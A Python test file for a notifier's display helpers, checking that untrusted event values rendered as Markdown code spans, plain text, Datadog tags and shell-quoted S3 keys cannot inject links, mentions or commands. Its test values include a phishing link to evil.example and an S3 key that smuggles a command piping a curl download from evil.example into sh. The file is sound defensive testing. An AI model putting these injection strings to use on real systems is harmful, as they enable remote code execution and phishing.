"""Values from data shown in events: code spans, plain text, tags and commands that data cannot subvert."""

from __future__ import annotations

import shlex
import subprocess
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from notifier.display import (
    CODE_LIMIT,
    ELLIPSIS,
    EMPTY,
    FULLWIDTH_AT,
    PLAIN_LIMIT,
    REPLACEMENT,
    TAG_LIMIT,
    clean,
    code,
    code_block,
    cut,
    plain,
    shell_quote,
    tag,
)
from tests.display_support import (
    HOSTILE_VALUES,
    code_spans,
    forbidden,
    hidden_characters,
    structure,
    tokens,
)

# Any text at all, surrogates and unassigned code points included.
ANY_TEXT = st.text(st.characters(codec=None, categories=None), max_size=400)
values = st.one_of(ANY_TEXT, st.sampled_from(HOSTILE_VALUES), st.integers(), st.none())


def shown(value: object) -> str:
    """What a reader should see of a value: its visible characters, `@` as `＠`."""
    return clean(value).replace("@", FULLWIDTH_AT)


def in_a_sentence(span: str) -> str:
    return f"- **Source:** {span}: 3 flows"


# --- code -----------------------------------------------------------------------------------------

def test_code_of_the_issue_address_is_one_literal_span():
    value = HOSTILE_VALUES[0]
    line = in_a_sentence(code(value))
    assert forbidden(line) == []
    assert code_spans(line) == [value.replace("@", FULLWIDTH_AT)]
    assert "@" not in line


def test_code_fence_is_longer_than_any_backtick_run():
    span = code("a``b```c")
    assert span.startswith("````") and span.endswith("````") and not span.startswith("`````")
    assert code_spans(in_a_sentence(span)) == ["a``b```c"]


@pytest.mark.parametrize("value", ["`x", "x`", " padded ", "`", "   "])
def test_code_keeps_backticks_and_spaces_at_the_edges(value):
    assert code_spans(in_a_sentence(code(value))) == [value]


def test_code_of_an_empty_value_says_so():
    assert code_spans(in_a_sentence(code(""))) == [EMPTY]


def test_code_bounds_the_value_with_an_ellipsis():
    value = "/vpc/" + "g" * 600
    span = code_spans(in_a_sentence(code(value, limit=64)))[0]
    assert len(span) == 64 and span.endswith(ELLIPSIS) and value.startswith(span[:-1])
    assert len(code_spans(code(value))[0]) == CODE_LIMIT


def test_code_shows_where_a_bidi_override_was():
    assert code_spans(code("203.0.113.9\u202egpj.exe")) == [f"203.0.113.9{REPLACEMENT}gpj.exe"]


def test_code_puts_a_multiline_value_on_one_line():
    line = in_a_sentence(code("/vpc/a\n# heading\n\n- item"))
    assert structure(line) == structure(in_a_sentence(code("x")))
    assert code_spans(line) == ["/vpc/a # heading  - item"]


def test_code_cannot_end_datadogs_markdown_block():
    assert "%%%" not in code("a\n%%%\nb%%%%")


@given(values, st.integers(min_value=1, max_value=CODE_LIMIT))
@example(HOSTILE_VALUES[0], CODE_LIMIT)
def test_code_of_any_value_is_one_literal_recognisable_span(value, limit):
    line = in_a_sentence(code(value, limit))
    assert structure(line) == structure(in_a_sentence(code("10.0.0.1")))
    assert forbidden(line) == []
    assert hidden_characters(line) == []
    assert "@" not in line and "%%%" not in line and "\n" not in line
    [span] = code_spans(line)
    expected = shown(value).replace("%%%", "%%％")
    assert span == (cut(expected, limit) if expected else EMPTY)


# --- plain ----------------------------------------------------------------------------------------

def test_plain_of_the_issue_address_has_no_html_mention_or_link():
    title = plain(HOSTILE_VALUES[0])
    assert title == ("1.2.3.4`[click-me](https[:]//evil.example/phish)![x](https[:]//evil.example/p.png)"
                     "‹b›x‹/b›＠here")


def test_plain_bounds_a_long_value_with_an_ellipsis():
    title = plain("/vpc/" + "g" * 300)
    assert len(title) == PLAIN_LIMIT and title == "/vpc/" + "g" * (PLAIN_LIMIT - 6) + ELLIPSIS


def test_plain_of_an_ordinary_value_is_the_value():
    assert plain("vpc-0123456789abcdef0") == "vpc-0123456789abcdef0"
    assert plain(123456789012) == "123456789012"


@given(values, st.integers(min_value=1, max_value=300))
def test_plain_of_any_value_is_one_inert_line(value, limit):
    text = plain(value, limit)
    assert len(text) <= limit
    assert hidden_characters(text) == [] and "\n" not in text
    assert not set("@<>") & set(text) and "://" not in text and "%%%" not in text
    expected = shown(value).replace("<", "‹").replace(">", "›").replace("://", "[:]//")
    assert text == cut(expected.replace("%%%", "%%％"), limit)


# --- clean ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800"])
def test_clean_replaces_hidden_characters_visibly(char):
    assert clean(f"a{char}b") == f"a{REPLACEMENT}b"


@pytest.mark.parametrize("char", ["\n", "\r", "\t", "\u2028", "\u2029", "\u00a0", "\u3000", "\x85"])
def test_clean_turns_line_breaks_and_odd_spaces_into_spaces(char):
    assert clean(f"a{char}b") == "a b"


@given(ANY_TEXT)
def test_clean_keeps_every_visible_character_in_place(value):
    cleaned = clean(value)
    assert len(cleaned) == len(value)
    for before, after in zip(value, cleaned, strict=True):
        category = unicodedata.category(before)
        assert after == before or after in (" ", REPLACEMENT)
        assert after == before or category[0] in "CZ"


# --- tag ------------------------------------------------------------------------------------------

def test_tag_of_an_ordinary_account_is_the_account():
    assert tag("aws_account", "123456789012") == "aws_account:123456789012"
    assert tag("region", "eu-west-1") == "region:eu-west-1"
    assert tag("error_output_type", "processing-failed") == "error_output_type:processing-failed"


def test_tag_of_a_hostile_account_follows_datadogs_rules():
    assert tag("aws_account", "12345<b>@here</b>\u202e,evil:") == "aws_account:12345_b_here_/b_evil"


def test_tag_lowercases_and_keeps_unicode_letters():
    assert tag("vpc_id", "VPC-ÄBC/Prod") == "vpc_id:vpc-äbc/prod"


def test_tag_of_an_empty_or_all_symbol_value_is_unknown():
    assert tag("vpc_id", "") == "vpc_id:unknown"
    assert tag("vpc_id", "@@@") == "vpc_id:unknown"


def test_tag_cuts_a_long_value_and_keeps_long_values_apart():
    first, second = tag("log_group", "a" * 300), tag("log_group", "a" * 299 + "b")
    assert len(first) == TAG_LIMIT and first.startswith("log_group:aaaa") and "..." in first
    assert first != second


def test_tag_refuses_a_key_that_is_not_a_tag_key():
    with pytest.raises(ValueError, match="start with a letter"):
        tag("1account", "x")
    with pytest.raises(ValueError, match="hold no colon"):
        tag("source:ip", "x")


def test_tag_of_exactly_the_limit_is_kept_whole():
    value = "v" * (TAG_LIMIT - len("vpc_id:"))
    assert tag("vpc_id", value) == f"vpc_id:{value}"


def test_tag_of_a_long_value_with_a_lone_surrogate_is_cut_like_any_other():
    first, second = tag("log_group", "a" * 300 + "\ud800"), tag("log_group", "a" * 300 + "\udfff")
    assert len(first) == TAG_LIMIT and first.startswith("log_group:aaaa") and "..." in first
    assert first != second


@given(st.sampled_from(["aws_account", "region", "vpc_id"]), values)
def test_tag_of_any_value_is_a_valid_datadog_tag(key, value):
    text = tag(key, value)
    assert text.startswith(f"{key}:") and len(text) <= TAG_LIMIT
    assert text == text.lower() and not text.endswith((":", "_")) and "__" not in text
    assert all(c.isalnum() or c in "_-:./" for c in text)


# --- commands -------------------------------------------------------------------------------------

def test_shell_quote_of_an_ordinary_key_reads_as_the_key():
    key = "s3://archive/rejected/year=2026/month=11/day=27/hour=18/rejected-flows-1-2026-11-27-18.gz"
    assert shell_quote(key) == key


def test_shell_quote_keeps_a_lone_percent_readable():
    assert shell_quote("s3://b/100%-done.gz") == "s3://b/100%-done.gz"
    assert shell_quote("s3://b/a%%%b") == "$'s3://b/a\\x25\\x25\\x25b'"


def test_shell_quote_of_a_key_with_a_mention_keeps_its_letters_readable():
    word = shell_quote("s3://b/X-caf\u00e9-@here.gz")
    assert word.startswith("$'s3://b/X-caf\u00e9-") and word.endswith("here.gz'") and "@" not in word


def test_shell_quote_of_the_issue_key_is_one_inert_word():
    uri = "s3://archive/x;curl${IFS}https://evil.example/s|sh;.gz"
    assert shlex.split(f"aws s3 cp {shell_quote(uri)} -") == ["aws", "s3", "cp", uri, "-"]


@given(ANY_TEXT.filter(lambda s: "\x00" not in s and not any(0xD800 <= ord(c) <= 0xDFFF for c in s)))
@example("x;curl${IFS}https://evil.example/s|sh;.gz")
@example("key with @here and %%% and \u202e and \n")
@example("X'\\\u00e9@")
@example("\x80 and \x7f")
# Each example starts a bash process: its time is the machine's load, not the code's.
@settings(max_examples=50, deadline=None)
def test_shell_quote_names_exactly_the_value_in_bash(value):
    word = shell_quote(value)
    assert hidden_characters(word) == [] and "@" not in word and "%%%" not in word
    echoed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert echoed.stdout.decode("utf-8", "surrogateescape") == value


def test_code_block_fence_outlasts_backticks_in_the_command():
    block = code_block("aws s3 cp 's3://b/```x' -")
    assert block.startswith("````\n") and block.endswith("\n````")
    assert [t.type for t in tokens(block)] == ["fence"]
